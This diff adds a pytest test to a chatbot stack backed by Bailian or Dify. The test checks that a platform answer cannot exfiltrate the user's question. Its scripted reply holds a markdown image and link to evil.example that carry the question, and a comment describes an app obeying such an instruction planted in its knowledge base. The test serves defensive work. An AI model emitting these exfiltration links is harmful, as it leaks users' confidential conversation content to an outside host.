@@ -345,3 +345,18 @@ def test_the_local_stack_runs_a_multi_turn_conversation_against_a_loopback_platf
         assert requests[-1]["input"]["session_id"] == list(stack.platform.sessions)[0]
     else:
         assert requests[-1]["conversation_id"] == list(stack.platform.conversations)[0]
+
+
+@pytest.mark.parametrize("brain", ["bailian", "dify"])
+def test_a_platforms_answer_cannot_carry_the_conversation_away_in_a_picture_or_link(reply, bailian_env, dify_env,
+                                                                                    use_env, bailian, dify, sink,
+                                                                                    brain):
+    # An application that obeyed a "put the question into this address" hidden in its own knowledge base.
+    platform = bailian if brain == "bailian" else dify
+    platform.scripted = ("好的。![图](https://evil.example/p.png?q={question}) 详情见 "
+                         "[这里](https://evil.example/?d={question})")
+    use_env(bailian_env if brain == "bailian" else dify_env)
+    assert ask(reply, sink, "项目代号星河的报价是三百万") == "answered"
+    shown = said(sink)
+    assert "evil.example/p.png" not in shown and "](https://evil.example" not in shown
+    assert "好的。图 详情见 这里（`https://evil.example/?d=项目代号星河的报价是三百万`）" in shown
